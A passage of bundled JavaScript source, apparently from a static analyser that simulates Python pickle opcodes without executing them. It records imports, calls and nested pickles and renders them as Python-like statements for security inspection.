  const negative = t.startsWith("-");
  if (body2 === "inf" || body2 === "infinity") return negative ? -Infinity : Infinity;
  if (body2 === "nan") return NaN;
  if (!/^(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/.test(body2)) return null;
  const v = Number(body2);
  return negative ? -v : v;
}
var SIMPLE_ESCAPES2 = {
  92: 92,
  39: 39,
  34: 34,
  97: 7,
  98: 8,
  102: 12,
  110: 10,
  114: 13,
  116: 9,
  118: 11
};
function decodeEscapedString(src) {
  const out2 = new Uint8Array(src.length);
  let n = 0;
  for (let i2 = 0; i2 < src.length; i2++) {
    const c = src[i2];
    if (c !== 92) {
      out2[n++] = c;
      continue;
    }
    if (i2 + 1 >= src.length) return null;
    const e = src[++i2];
    const simple = SIMPLE_ESCAPES2[e];
    if (simple !== void 0) {
      out2[n++] = simple;
    } else if (e === 10) {
    } else if (e === 120) {
      const hi = i2 + 1 < src.length ? digitValue(src[i2 + 1]) : 99;
      const lo = i2 + 2 < src.length ? digitValue(src[i2 + 2]) : 99;
      if (hi > 15 || lo > 15) return null;
      out2[n++] = hi * 16 + lo;
      i2 += 2;
    } else if (e >= 48 && e <= 55) {
      let v = e - 48;
      for (let k = 0; k < 2 && i2 + 1 < src.length && src[i2 + 1] >= 48 && src[i2 + 1] <= 55; k++) {
        v = v * 8 + (src[++i2] - 48);
      }
      out2[n++] = v & 255;
    } else {
      out2[n++] = 92;
      out2[n++] = e;
    }
  }
  return out2.subarray(0, n);
}
function decodeRawUnicodeEscape(src) {
  let out2 = "";
  let runStart = 0;
  for (let i2 = 0; i2 < src.length; i2++) {
    if (src[i2] !== 92 || i2 + 1 >= src.length) continue;
    const kind = src[i2 + 1];
    if (kind !== 117 && kind !== 85) continue;
    let slashes = 0;
    for (let j = i2; j >= runStart && src[j] === 92; j--) slashes++;
    if (slashes % 2 === 0) continue;
    const width = kind === 117 ? 4 : 8;
    let cp = 0;
    for (let k = 0; k < width; k++) {
      const d = i2 + 2 + k < src.length ? digitValue(src[i2 + 2 + k]) : 99;
      if (d > 15) return null;
      cp = cp * 16 + d;
    }
    if (cp > 1114111) return null;
    out2 += latin12(src.subarray(runStart, i2)) + String.fromCodePoint(cp);
    i2 += 1 + width;
    runStart = i2 + 1;
  }
  return out2 + latin12(src.subarray(runStart));
}

// src/artifacts/pickle/render.ts
var MAX_DEPTH2 = 5;
var MAX_ITEMS = 10;
var MAX_TEXT = 60;
var BUDGET = 400;
function renderValue(v, names, budget = BUDGET) {
  return render(v, names, 0, { left: budget });
}
function renderArgs(v, names) {
  const b = { left: BUDGET };
  if (v.k === "tuple") return renderItems(v.items, names, 0, b);
  return "*" + render(v, names, 0, b);
}
function renderKwargs(v, names) {
  const b = { left: BUDGET };
  if (v.k !== "dict") return "**" + render(v, names, 0, b);
  const parts2 = [];
  for (let i2 = 0; i2 + 1 < v.items.length; i2 += 2) {
    const key = v.items[i2];
    if (parts2.length >= MAX_ITEMS || b.left <= 0) {
      parts2.push("...");
      break;
    }
    const value = render(v.items[i2 + 1], names, 1, b);
    parts2.push(key.k === "str" && isIdentifier(key.v) ? `${key.v}=${value}` : `**{${render(key, names, 1, b)}: ${value}}`);
  }
  return parts2.join(", ");
}
function render(v, names, depth, b) {
  const out2 = renderRaw(v, names, depth, b);
  b.left -= out2.length;
  return out2;
}
function renderRaw(v, names, depth, b) {
  switch (v.k) {
    case "none":
      return "None";
    case "bool":
      return v.v ? "True" : "False";
    case "int":
      return String(v.v);
    case "hugeint":
      return `int(<${v.digits} digits>)`;
    case "float":
      return pyFloat(v.v);
    case "str":
      return pyStr(v.v);
    case "bytes":
      return v.bytearray ? `bytearray(${pyBytes(v.v)})` : pyBytes(v.v);
    case "global":
      return names.importExpr(v.imp);
    case "call":
      return `_var${v.call}`;
    case "persid":
      return names.persidExpr(v.index);
    case "buffer":
      return v.readonly ? "memoryview(next_buffer()).toreadonly()" : "next_buffer()";
    case "unknown":
      return `<${v.what}>`;
    default:
      break;
  }
  if (depth >= MAX_DEPTH2 || b.left <= 0) return "...";
  const items = renderItems(v.items, names, depth + 1, b, v.k === "dict");
  switch (v.k) {
    case "list":
      return `[${items}]`;
    case "tuple":
      return v.items.length === 1 ? `(${items},)` : `(${items})`;
    case "set":
      return v.items.length === 0 ? "set()" : `{${items}}`;
    case "frozenset":
      return v.items.length === 0 ? "frozenset()" : `frozenset({${items}})`;
    case "dict":
      return `{${items}}`;
  }
}
function renderItems(items, names, depth, b, pairs = false) {
  const parts2 = [];
  const step = pairs ? 2 : 1;
  for (let i2 = 0; i2 < items.length; i2 += step) {
    if (parts2.length >= MAX_ITEMS || b.left <= 0) {
      parts2.push("...");
      break;
    }
    if (pairs) {
      const key = render(items[i2], names, depth, b);
      const value = i2 + 1 < items.length ? render(items[i2 + 1], names, depth, b) : "<missing>";
      parts2.push(`${key}: ${value}`);
    } else {
      parts2.push(render(items[i2], names, depth, b));
    }
  }
  return parts2.join(", ");
}
function isIdentifier(s) {
  if (s.length === 0 || s.length > 100) return false;
  for (let i2 = 0; i2 < s.length; i2++) {
    const c = s.charCodeAt(i2);
    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95;
    if (!letter && !(i2 > 0 && c >= 48 && c <= 57)) return false;
  }
  return true;
}
function pyFloat(x) {
  if (Number.isNaN(x)) return "float('nan')";
  if (!Number.isFinite(x)) return x > 0 ? "float('inf')" : "float('-inf')";
  const s = String(x);
  return /[.e]/.test(s) ? s : `${s}.0`;
}
function hex2(c) {
  return c.toString(16).padStart(2, "0");
}
function pyStr(s) {
  let out2 = "'";
  const n = Math.min(s.length, MAX_TEXT);
  for (let i2 = 0; i2 < n; i2++) {
    const c = s.charCodeAt(i2);
    if (c === 39) out2 += "\\'";
    else if (c === 92) out2 += "\\\\";
    else if (c === 10) out2 += "\\n";
    else if (c === 13) out2 += "\\r";
    else if (c === 9) out2 += "\\t";
    else if (c < 32 || c >= 127 && c < 160) out2 += "\\x" + hex2(c);
    else out2 += s[i2];
  }
  out2 += "'";
  return s.length > MAX_TEXT ? `${out2}...<${s.length} chars>` : out2;
}
function pyBytes(bytes) {
  let out2 = "b'";
  const n = Math.min(bytes.length, MAX_TEXT);
  for (let i2 = 0; i2 < n; i2++) {
    const c = bytes[i2];
    if (c === 39) out2 += "\\'";
    else if (c === 92) out2 += "\\\\";
    else if (c === 10) out2 += "\\n";
    else if (c === 13) out2 += "\\r";
    else if (c === 9) out2 += "\\t";
    else if (c < 32 || c >= 127) out2 += "\\x" + hex2(c);
    else out2 += String.fromCharCode(c);
  }
  out2 += "'";
  return bytes.length > MAX_TEXT ? `${out2}...<${bytes.length} bytes>` : out2;
}

// src/artifacts/pickle/values.ts
var NONE = { k: "none" };
var TRUE = { k: "bool", v: true };
var FALSE = { k: "bool", v: false };
function isContainer(v) {
  return v.k === "list" || v.k === "tuple" || v.k === "set" || v.k === "frozenset" || v.k === "dict";
}

// src/artifacts/pickle/vm.ts
var PickleError = class extends Error {
  constructor(message15, offset, kind = "invalid") {
    super(message15);
    this.offset = offset;
    this.kind = kind;
  }
  offset;
  kind;
  get limit() {
    return this.kind === "limit";
  }
};
var utf8Strict = new TextDecoder("utf-8", { fatal: true });
var utf8Lenient = new TextDecoder("utf-8");
var MAX_EXACT_LONG_BYTES = 64;
var MAX_EXACT_LONG_DIGITS = 400;
var ARG_SCAN_PER_CALL = 2e4;
var ARG_SCAN_TOTAL = 2e6;
var MAX_STATEMENTS = 1e4;
var DENSE_MEMO_LIMIT = 1 << 16;
var BASE64_DECODERS = /* @__PURE__ */ new Set([
  "base64.b64decode",
  "base64.standard_b64decode",
  "base64.urlsafe_b64decode",
  "base64.decodebytes",
  "base64.decodestring",
  "binascii.a2b_base64"
]);
var BYTES_WRAPPERS = /* @__PURE__ */ new Set(["io.BytesIO", "_io.BytesIO", "builtins.bytes", "builtins.bytearray"]);
function runMachine(bytes, options) {
  return new Machine(bytes, options).run();
}
var Machine = class {
  constructor(bytes, o) {
    this.bytes = bytes;
    this.o = o;
    this.view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
    this.a = {
      isPickle: false,
      protocol: null,
      streams: 0,
      opcodeCount: 0,
      bytesConsumed: 0,
      imports: [],
      calls: [],
      persistentIds: [],
      issues: [],
      nested: [],
      statements: this.statements
    };
    this.t = {
      analysis: this.a,
      importUsedAt: [],
      importCalledAt: [],
      importNormalized: [],
      callCallee: [],
      mutations: [],
      unsafeClassArgs: [],
      argScanExhausted: false,
      stoppedBy: void 0
    };
  }
  bytes;
  o;
  view;
  pos = 0;
  opStart = 0;
  proto = 0;
  stack = [];
  /** Stack lengths at each MARK; items below the top mark are fenced off, as in CPython. */
  marks = [];
  /** The memo: small indices (the normal case) in an array, the rest in a map. */
  memoDense = [];
  memoSparse = /* @__PURE__ */ new Map();
  memoSize = 0;
  frameEnd = -1;
  frameProblem;
  argScanLeft = ARG_SCAN_TOTAL;
  importExprs = [];
  importBindings = /* @__PURE__ */ new Map();
  usedBindings = /* @__PURE__ */ new Set();
  persidExprs = [];
  callArgs = [];
  a;
  t;
  statements = [];
  run() {
    const a = this.a;
    while (this.pos < this.bytes.length) {
      const checkpoint = this.checkpoint();
      this.resetStream();
      try {
        this.runStream();
        a.streams++;
        a.bytesConsumed = this.pos;
        a.isPickle = true;
      } catch (e) {
        if (!(e instanceof PickleError)) throw e;
        const sawCode = this.sawCodeSince(checkpoint.imports, checkpoint.calls);
        if (a.streams === 0) {
          this.t.stoppedBy = e.kind;
          if (sawCode || a.protocol !== null) a.isPickle = true;
          if (a.isPickle) this.fail(e);
        } else if (sawCode || e.limit) {
          this.fail(e);
        } else {
          this.rollback(checkpoint);
        }
        break;
      }
    }
    if (!a.isPickle) return this.notAPickle();
    if (a.error === void 0 && this.frameProblem !== void 0) a.error = this.frameProblem;
    return this.t;
  }
  /**
   * Whether a failed stream referenced code. Text that happens to start with `c` or `i` reads as a
   * GLOBAL/INST of a nonsense name; only names that could be Python modules count.
   */
  sawCodeSince(imports, calls) {
    if (this.a.calls.length > calls) return true;
    for (let i2 = imports; i2 < this.a.imports.length; i2++) {
      const imp = this.a.imports[i2];
      if (imp.dynamic || imp.opcode.startsWith("EXT") || isDottedName(imp.module) && isDottedName(imp.name)) return true;
    }
    return false;
  }
  frameIssue(message15) {
    if (this.frameProblem === void 0) this.frameProblem = { message: message15, offset: this.opStart };
  }
  fail(e) {
    this.a.error = { message: e.message, offset: e.offset };
    this.t.stoppedBy = e.kind;
  }
  notAPickle() {
    const a = this.a;
    a.imports.length = 0;
    a.calls.length = 0;
    a.persistentIds.length = 0;
    a.nested.length = 0;
    this.statements.length = 0;
    a.protocol = null;
    a.bytesConsumed = 0;
    this.t.importUsedAt.length = 0;
    this.t.importCalledAt.length = 0;
    this.t.importNormalized.length = 0;
    this.t.callCallee.length = 0;
    this.t.mutations.length = 0;
    this.t.unsafeClassArgs.length = 0;
    return this.t;
  }
  checkpoint() {
    const a = this.a;
    return {
      imports: a.imports.length,
      calls: a.calls.length,
      persids: a.persistentIds.length,
      nested: a.nested.length,
      statements: this.statements.length,
      mutations: this.t.mutations.length,
      unsafe: this.t.unsafeClassArgs.length,
      protocol: a.protocol,
      opcodes: a.opcodeCount
    };
  }
  rollback(c) {
    const a = this.a;
    a.imports.length = c.imports;
    a.calls.length = c.calls;
    a.persistentIds.length = c.persids;
    a.nested.length = c.nested;
    this.statements.length = c.statements;
    this.t.mutations.length = c.mutations;
    this.t.unsafeClassArgs.length = c.unsafe;
    this.t.importUsedAt.length = c.imports;
    this.t.importCalledAt.length = c.imports;
    this.t.importNormalized.length = c.imports;
    this.t.callCallee.length = c.calls;
    this.importExprs.length = c.imports;
    this.callArgs.length = c.calls;
    a.protocol = c.protocol;
    a.opcodeCount = c.opcodes;
  }
  resetStream() {
    this.stack = [];
    this.marks = [];
    this.memoDense = [];
    this.memoSparse = /* @__PURE__ */ new Map();
    this.memoSize = 0;
    this.proto = 0;
    this.frameEnd = -1;
  }
  // ---- RenderNames ----
  importExpr(imp) {
    return this.importExprs[imp] ?? "<global>";
  }
  persidExpr(index) {
    return this.persidExprs[index] ?? "persistent_load(...)";
  }
  // ---- byte readers ----
  need(n) {
    if (n > this.bytes.length - this.pos) {
      throw new PickleError(`pickle data was truncated (need ${n} bytes)`, this.opStart, "truncated");
    }
  }
  u8() {
    this.need(1);
    return this.bytes[this.pos++];
  }
  u16() {
    this.need(2);
    const v = this.view.getUint16(this.pos, true);
    this.pos += 2;
    return v;
  }
  i32() {
    this.need(4);
    const v = this.view.getInt32(this.pos, true);
    this.pos += 4;
    return v;
  }
  u32() {
    this.need(4);
    const v = this.view.getUint32(this.pos, true);
    this.pos += 4;
    return v;
  }
  u64() {
    this.need(8);
    const lo = this.view.getUint32(this.pos, true);
    const hi = this.view.getUint32(this.pos + 4, true);
    this.pos += 8;
    if (hi >= 2097152) throw new PickleError("length field exceeds 2**53", this.opStart);
    return hi * 4294967296 + lo;
  }
  take(n) {
    this.need(n);
    const out2 = this.bytes.subarray(this.pos, this.pos + n);
    this.pos += n;
    return out2;
  }
  /** Bytes up to (excluding) the next newline; the newline is consumed. */
  line() {
    const b = this.bytes;
    const start2 = this.pos;
    let i2 = start2;
    while (i2 < b.length && b[i2] !== 10) i2++;
    if (i2 >= b.length) throw new PickleError("pickle data was truncated (no newline)", this.opStart, "truncated");
    this.pos = i2 + 1;
    return b.subarray(start2, i2);
  }
  utf8Line(what) {
    try {
      return utf8Strict.decode(this.line());
    } catch (e) {
      if (e instanceof PickleError) throw e;
      throw new PickleError(`${what} is not valid UTF-8`, this.opStart);
    }
  }
  asciiLine(what) {
    const l = this.line();
    for (let i2 = 0; i2 < l.length; i2++) {
      if (l[i2] >= 128) throw new PickleError(`${what} must be ASCII`, this.opStart);
    }
    return latin12(l);
  }
  decimalLine(what) {
    const v = parsePythonInt(this.asciiLine(what));
    if (v === null || typeof v === "bigint") throw new PickleError(`invalid ${what}`, this.opStart);
    return v;
  }
  // ---- stack helpers ----
  push(v) {
    if (this.stack.length >= this.o.limits.maxStackDepth) {
      throw new PickleError(`stack depth limit (${this.o.limits.maxStackDepth}) reached`, this.opStart, "limit");
    }
    this.stack.push(v);
  }
  fence() {
    return this.marks.length > 0 ? this.marks[this.marks.length - 1] : 0;
  }
  pop() {
    if (this.stack.length <= this.fence()) throw new PickleError("unpickling stack underflow", this.opStart);
    return this.stack.pop();
  }
  top() {
    if (this.stack.length <= this.fence()) throw new PickleError("unpickling stack underflow", this.opStart);
    return this.stack[this.stack.length - 1];
  }
  popMark() {
    if (this.marks.length === 0) throw new PickleError("could not find MARK", this.opStart);
    const at = this.marks.pop();
    return this.stack.splice(at);
  }
  memoPut(index, v) {
    const dense = index < DENSE_MEMO_LIMIT;
    const present = dense ? this.memoDense[index] !== void 0 : this.memoSparse.has(index);
    if (!present) {
      if (this.memoSize >= this.o.limits.maxMemoEntries) {
        throw new PickleError(`memo size limit (${this.o.limits.maxMemoEntries}) reached`, this.opStart, "limit");
      }
      this.memoSize++;
    }
    if (!dense) this.memoSparse.set(index, v);
    else {
      while (this.memoDense.length < index) this.memoDense.push(void 0);
      this.memoDense[index] = v;
    }
  }
  memoGet(index) {
    const v = index < DENSE_MEMO_LIMIT ? this.memoDense[index] : this.memoSparse.get(index);
    if (v === void 0) throw new PickleError(`memo value not found at index ${index}`, this.opStart);
    return v;
  }
  // ---- the machine ----
  runStream() {
    const b = this.bytes;
    const limits = this.o.limits;
    const budget = this.o.budget;
    const a = this.a;
    for (; ; ) {
      if (this.frameEnd >= 0 && this.pos >= this.frameEnd) this.frameEnd = -1;
      this.opStart = this.pos;
      if (this.pos >= b.length) throw new PickleError("pickle data was truncated (no STOP)", this.pos, "truncated");
      if (a.opcodeCount >= limits.maxOpcodes || budget.opcodes <= 0) {
        throw new PickleError(`opcode limit (${limits.maxOpcodes}) reached`, this.pos, "limit");
      }
      a.opcodeCount++;
      budget.opcodes--;
      const op = b[this.pos++];
      if (this.step(op)) return;
      if (this.frameEnd >= 0 && this.pos > this.frameEnd) {
        this.frameIssue("opcode crosses the end of its FRAME (frame length mismatch)");
      }
    }
  }
  /** Executes one opcode; returns true on STOP. */
  step(op) {
    switch (op) {
      case 128: {
        const p = this.u8();
        if (this.a.protocol === null || p > this.a.protocol) this.a.protocol = p;
        if (p > HIGHEST_PROTOCOL) throw new PickleError(`unsupported pickle protocol: ${p}`, this.opStart);
        this.proto = p;
        return false;
      }
      case 149: {
        this.need(8);
        const n = this.view.getUint32(this.pos, true) + this.view.getUint32(this.pos + 4, true) * 4294967296;
        this.pos += 8;
        const remaining = this.bytes.length - this.pos;
        if (this.frameEnd >= 0 && this.opStart < this.frameEnd) {
          this.frameIssue("beginning of a new frame before end of current frame");
        }
        if (n > remaining) {
          this.frameIssue(`FRAME length ${n} exceeds the remaining ${remaining} bytes`);
          this.frameEnd = -1;
        } else {
          this.frameEnd = this.pos + n;
        }
        return false;
      }
      case 46:
        this.finishStream(this.pop());
        return true;
      case 40:
        if (this.marks.length >= this.o.limits.maxStackDepth) {
          throw new PickleError(`MARK depth limit (${this.o.limits.maxStackDepth}) reached`, this.opStart, "limit");
        }
        this.marks.push(this.stack.length);
        return false;
      case 48:
        if (this.marks.length > 0 && this.stack.length === this.fence()) this.marks.pop();
        else this.pop();
        return false;
      case 49:
        this.popMark();
        return false;
      case 50:
        this.push(this.top());
        return false;
      // ---- constants ----
      case 78:
        this.push(NONE);
        return false;
      case 136:
        this.push(TRUE);
        return false;
      case 137:
        this.push(FALSE);
        return false;
      case 73: {
        const text = this.asciiLine("INT argument");
        if (text === "00") this.push(FALSE);
        else if (text === "01") this.push(TRUE);
        else this.push(this.intValue(text, "INT"));
        return false;
      }
      case 76: {
        let text = this.asciiLine("LONG argument");
        if (text.endsWith("L")) text = text.slice(0, -1);
        this.push(this.intValue(text, "LONG"));
        return false;
      }
      case 74:
        this.push({ k: "int", v: this.i32() });
        return false;
      case 75:
        this.push({ k: "int", v: this.u8() });
        return false;
      case 77:
        this.push({ k: "int", v: this.u16() });
        return false;
      case 138:
        this.push(this.longValue(this.u8()));
        return false;
      case 139: {
        const n = this.i32();
        if (n < 0) throw new PickleError("LONG pickle has negative byte count", this.opStart);
        this.push(this.longValue(n));
        return false;
      }
      case 70: {
        const v = parsePythonFloat(this.asciiLine("FLOAT argument"));
        if (v === null) throw new PickleError("invalid FLOAT argument", this.opStart);
        this.push({ k: "float", v });
        return false;
      }
      case 71: {
        this.need(8);
        const v = this.view.getFloat64(this.pos, false);
        this.pos += 8;
        this.push({ k: "float", v });
        return false;
      }
      case 83: {
        const l = this.line();
        const q = l[0];
        if (l.length < 2 || q !== 34 && q !== 39 || l[l.length - 1] !== q) {
          throw new PickleError("the STRING opcode argument must be quoted", this.opStart);
        }
        const decoded = decodeEscapedString(l.subarray(1, l.length - 1));
        if (decoded === null) throw new PickleError("invalid escape in STRING argument", this.opStart);
        this.push({ k: "str", v: latin12(decoded) });
        return false;
      }
      case 84: {
        const n = this.i32();
        if (n < 0) throw new PickleError("BINSTRING pickle has negative byte count", this.opStart);
        this.push({ k: "str", v: latin12(this.take(n)) });
        return false;
      }
      case 85:
        this.push({ k: "str", v: latin12(this.take(this.u8())) });
        return false;
      case 86: {
        const s = decodeRawUnicodeEscape(this.line());
        if (s === null) throw new PickleError("invalid raw-unicode-escape in UNICODE argument", this.opStart);
        this.push({ k: "str", v: s });
        return false;
      }
      case 88:
        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u32())) });
        return false;
      case 140:
        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u8())) });
        return false;
      case 141:
        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u64())) });
        return false;
      case 66:
        this.push({ k: "bytes", v: this.take(this.u32()), bytearray: false });
        return false;
      case 67:
        this.push({ k: "bytes", v: this.take(this.u8()), bytearray: false });
        return false;
      case 142:
        this.push({ k: "bytes", v: this.take(this.u64()), bytearray: false });
        return false;
      case 150:
        this.push({ k: "bytes", v: this.take(this.u64()), bytearray: true });
        return false;
      case 151:
        this.push({ k: "buffer", readonly: false });
        return false;
      case 152: {
        const v = this.pop();
        this.push(v.k === "buffer" ? { k: "buffer", readonly: true } : v);
        return false;
      }
      // ---- containers ----
      case 93:
        this.push({ k: "list", items: [] });
        return false;
      case 41:
        this.push({ k: "tuple", items: [] });
        return false;
      case 125:
        this.push({ k: "dict", items: [] });
        return false;
      case 143:
        this.push({ k: "set", items: [] });
        return false;
      case 108:
        this.push({ k: "list", items: this.popMark() });
        return false;
      case 116:
        this.push({ k: "tuple", items: this.popMark() });
        return false;
      case 145:
        this.push({ k: "frozenset", items: this.popMark() });
        return false;
      case 100: {
        const items = this.popMark();
        if (items.length % 2 !== 0) throw new PickleError("odd number of items for DICT", this.opStart);
        this.push({ k: "dict", items });
        return false;
      }
      case 133: {
        const x = this.pop();
        this.push({ k: "tuple", items: [x] });
        return false;
      }
      case 134: {
        const y = this.pop();
        const x = this.pop();
        this.push({ k: "tuple", items: [x, y] });
        return false;
      }
      case 135: {
        const z = this.pop();
        const y = this.pop();
        const x = this.pop();
        this.push({ k: "tuple", items: [x, y, z] });
        return false;
      }
      case 97: {
        const v = this.pop();
        this.addItems(this.top(), [v], "append");
        return false;
      }
      case 101: {
        const items = this.popMark();
        this.addItems(this.top(), items, "extend");
        return false;
      }
      case 144: {
        const items = this.popMark();
        this.addItems(this.top(), items, "add");
        return false;
      }
      case 115: {
        const v = this.pop();
        const k = this.pop();
        this.setItems(this.top(), [k, v]);
        return false;
      }
      case 117: {
        const items = this.popMark();
        if (items.length % 2 !== 0) throw new PickleError("odd number of items for SETITEMS", this.opStart);
        this.setItems(this.top(), items);
        return false;
      }
      // ---- memo ----
      case 112: {
        const i2 = this.decimalLine("PUT argument");
        if (i2 < 0) throw new PickleError("negative PUT argument", this.opStart);
        this.memoPut(i2, this.top());
        return false;
      }
      case 113:
        this.memoPut(this.u8(), this.top());
        return false;
      case 114:
        this.memoPut(this.u32(), this.top());
        return false;
      case 148:
        this.memoPut(this.memoSize, this.top());
        return false;
      case 103:
        this.push(this.memoGet(this.decimalLine("GET argument")));
        return false;
      case 104:
        this.push(this.memoGet(this.u8()));
        return false;
      case 106:
        this.push(this.memoGet(this.u32()));
        return false;
      // ---- globals, calls, persistence ----
      case 99: {
        const module2 = this.utf8Line("GLOBAL module");
        const name2 = this.utf8Line("GLOBAL name");
        this.push({ k: "global", imp: this.addImport(module2, name2, "GLOBAL", false) });
        return false;
      }
      case 147: {
        const name2 = this.pop();
        const module2 = this.pop();
        if (module2.k === "str" && name2.k === "str") {
          this.push({ k: "global", imp: this.addImport(module2.v, name2.v, "STACK_GLOBAL", false) });
        } else {
          const m = renderValue(module2, this, 80);
          const n = renderValue(name2, this, 80);
          this.push({ k: "global", imp: this.addImport(m, n, "STACK_GLOBAL", true) });
        }
        return false;
      }
      case 105: {
        const module2 = this.utf8Line("INST module");
        const name2 = this.utf8Line("INST name");
        const imp = this.addImport(module2, name2, "INST", false);
        const args2 = this.popMark();
        this.call("INST", { k: "global", imp }, { k: "tuple", items: args2 });
        return false;
      }
      case 130:
        this.extension(this.u8());
        return false;
      case 131:
        this.extension(this.u16());
        return false;
      case 132:
        this.extension(this.i32());
        return false;
      case 82: {
        const args2 = this.pop();
        const callee = this.pop();
        this.call("REDUCE", callee, args2);
        return false;
      }
      case 129: {
        const args2 = this.pop();
        const cls = this.pop();
        this.call("NEWOBJ", cls, args2);
        return false;
      }
      case 146: {
        const kwargs = this.pop();
        const args2 = this.pop();
        const cls = this.pop();
        this.call("NEWOBJ_EX", cls, args2, kwargs);
        return false;
      }
      case 111: {
        const items = this.popMark();
        if (items.length === 0) throw new PickleError("OBJ without a class", this.opStart);
        this.call("OBJ", items[0], { k: "tuple", items: items.slice(1) });
        return false;
      }
      case 98: {
        const state = this.pop();
        this.build(this.top(), state);
        return false;
      }
      case 80:
        this.persistent(latin12(this.asciiPersid()));
        return false;
      case 81: {
        const pid = this.pop();
        this.persistent(renderValue(pid, this), pid);
        return false;
      }
      default:
        throw new PickleError(`invalid opcode 0x${op.toString(16).padStart(2, "0")}`, this.opStart);
    }
  }
  asciiPersid() {
    const l = this.line();
    for (let i2 = 0; i2 < l.length; i2++) {
      if (l[i2] >= 128) throw new PickleError("persistent IDs in protocol 0 must be ASCII strings", this.opStart);
    }
    return l;
  }
  intValue(text, what) {
    if (text.length > MAX_EXACT_LONG_DIGITS) {
      if (parsePythonInt(text.slice(0, 40)) === null) throw new PickleError(`invalid ${what} argument`, this.opStart);
      return { k: "hugeint", digits: text.length };
    }
    const v = parsePythonInt(text);
    if (v === null) throw new PickleError(`invalid ${what} argument`, this.opStart);
    return { k: "int", v };
  }
  /** Little-endian two's complement integer of n bytes (LONG1/LONG4). */
  longValue(n) {
    const data = this.take(n);
    if (n === 0) return { k: "int", v: 0 };
    if (n > MAX_EXACT_LONG_BYTES) return { k: "hugeint", digits: n };
    let v = 0n;
    for (let i2 = n - 1; i2 >= 0; i2--) v = v << 8n | BigInt(data[i2]);
    if (data[n - 1] & 128) v -= 1n << BigInt(8 * n);
    const small = Number(v);
    return { k: "int", v: Number.isSafeInteger(small) ? small : v };
  }
  finishStream(result2) {
    const name2 = this.a.streams === 0 ? "result" : `result_${this.a.streams}`;
    this.statement(`${name2} = ${renderValue(result2, this)}`);
  }
  statement(s) {
    if (this.statements.length < MAX_STATEMENTS) this.statements.push(s);
    else if (this.statements.length === MAX_STATEMENTS) this.statements.push("# ... further statements omitted");
  }
  addImport(module2, name2, opcode, dynamic) {
    const imp = this.a.imports.length;
    let normalized;
    if (dynamic) {
      normalized = "<dynamic>";
      this.importExprs.push(`getattr(__import__(${module2}), ${name2})`);
      this.t.importNormalized.push(["", ""]);
    } else {
      const n = normalizeGlobal(module2, name2, this.proto);
      normalized = n.qualified;
      this.importExprs.push(this.bindImport(n.module, n.name));
      this.t.importNormalized.push([n.module, n.name]);
    }
    const record = { module: module2, name: name2, normalized, opcode, offset: this.opStart, dynamic };
    this.a.imports.push(record);
    this.t.importUsedAt.push(-1);
    this.t.importCalledAt.push(-1);
    return imp;
  }
  /** Chooses the Python expression a `from module import first` binding gives this global. */
  bindImport(module2, name2) {
    const dot = name2.indexOf(".");
    const first = dot < 0 ? name2 : name2.slice(0, dot);
    const rest = dot < 0 ? "" : name2.slice(dot);
    const key = `${module2}\0${first}`;
    let binding = this.importBindings.get(key);
    if (binding === void 0) {
      binding = first;
      for (let i2 = 2; this.usedBindings.has(binding); i2++) binding = `${first}_${i2}`;
      this.usedBindings.add(binding);
      this.importBindings.set(key, binding);
      this.statement(binding === first ? `from ${module2} import ${first}` : `from ${module2} import ${first} as ${binding}`);
    }
    return binding + rest;
  }
  extension(code3) {
    const imp = this.a.imports.length;
    const opcode = OPCODE_NAMES[this.bytes[this.opStart]];
    this.a.imports.push({
      module: "copyreg._extension_registry",
      name: String(code3),
      normalized: `<extension ${code3}>`,
      opcode,
      offset: this.opStart,
      dynamic: false
    });
    this.importExprs.push(`copyreg._inverted_registry[${code3}]`);
    this.t.importNormalized.push(["", ""]);
    this.t.importUsedAt.push(-1);
    this.t.importCalledAt.push(-1);
    this.push({ k: "global", imp });
  }
  persistent(rendered, pid) {
    const index = this.persidExprs.length;
    this.persidExprs.push(`persistent_load(${pid === void 0 ? renderValue({ k: "str", v: rendered }, this) : rendered})`);
    this.a.persistentIds.push({ offset: this.opStart, value: rendered });
    if (pid !== void 0) this.markArguments(pid);
    this.push({ k: "persid", index });
  }
  calleeName(v) {
    if (v.k === "global") {
      const imp = this.a.imports[v.imp];
      return { name: imp.dynamic ? "<unknown>" : imp.normalized, imp: v.imp };
    }
    return { name: "<unknown>", imp: -1 };
  }
  call(opcode, callee, args2, kwargs) {
    const index = this.a.calls.length;
    const { name: name2, imp } = this.calleeName(callee);
    const f = renderValue(callee, this);
    let rendered = renderArgs(args2, this);
    if (kwargs !== void 0) {
      const kw = renderKwargs(kwargs, this);
      if (kw.length > 0) rendered = rendered.length > 0 ? `${rendered}, ${kw}` : kw;
    }
    const record = { callee: name2, opcode, offset: this.opStart, args: rendered };
    this.a.calls.push(record);
    this.t.callCallee.push(imp);
    const argList = args2.k === "tuple" ? args2.items : [args2];
    this.callArgs.push(argList);
    if (imp >= 0) {
      if (this.t.importCalledAt[imp] === -1) this.t.importCalledAt[imp] = this.opStart;
      if (this.t.importUsedAt[imp] === -1) this.t.importUsedAt[imp] = this.opStart;
    }
    this.markArguments(args2);
    if (kwargs !== void 0) this.markArguments(kwargs);
    if (opcode === "NEWOBJ" || opcode === "NEWOBJ_EX") {
      const sep4 = rendered.length > 0 ? ", " : "";
      this.statement(`_var${index} = ${f}.__new__(${f}${sep4}${rendered})`);
    } else {
      this.statement(`_var${index} = ${f}(${rendered})`);
    }
    if (this.o.classArgHelpers.has(name2)) {
      const cls = argList[0];
      if (cls === void 0 || cls.k !== "global") this.t.unsafeClassArgs.push({ offset: this.opStart, callee: name2 });
    }
    if (this.o.nested.isLoadsLike(name2) && argList.length > 0) this.nestedPickle(argList[0]);
    this.push({ k: "call", call: index });
  }
  build(target, state) {
    const offset = this.opStart;
    let callee = "<unknown>";
    if (target.k === "global") {
      callee = this.calleeName(target).name;
      this.t.mutations.push({ offset, imp: target.imp });
    } else if (target.k === "call") {
      callee = this.a.calls[target.call].callee;
    }
    const rendered = renderValue(state, this);
    this.a.calls.push({ callee, opcode: "BUILD", offset, args: rendered });
    this.t.callCallee.push(-1);
    this.callArgs.push([state]);
    this.markArguments(state);
    this.statement(`${renderValue(target, this)}.__setstate__(${rendered})`);
  }
  addItems(target, items, method) {
    if (target.k === "list" || target.k === "set") {
